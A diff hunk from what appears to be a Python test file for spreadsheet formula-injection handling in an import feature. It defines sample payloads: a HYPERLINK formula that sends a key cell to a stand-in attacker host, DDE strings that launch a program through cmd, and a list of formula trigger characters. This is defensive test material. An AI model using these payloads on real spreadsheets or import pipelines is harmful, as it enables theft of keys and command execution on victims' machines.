@@ -38,7 +38,7 @@ from tests.factories import DEFAULT_PASSWORD, DeviceFactory, OrganizationFactory
 
 ZIP_PASSWORD = "violet tractor umbrella 42"
 # What arrives through a factory import; E2 is the row's key_hex cell in keys.csv.
-STEAL_KEY = '=HYPERLINK("http://evil.example/?"&E2,"Click for details")'
+STEAL_KEY = '=HYPERLINK("http://ev.il/?"&E2,"x")'  # fits order_no's 40 characters
 RUN_CALC = "+cmd|' /C calc'!A0"
 FORMULAS = [STEAL_KEY, RUN_CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
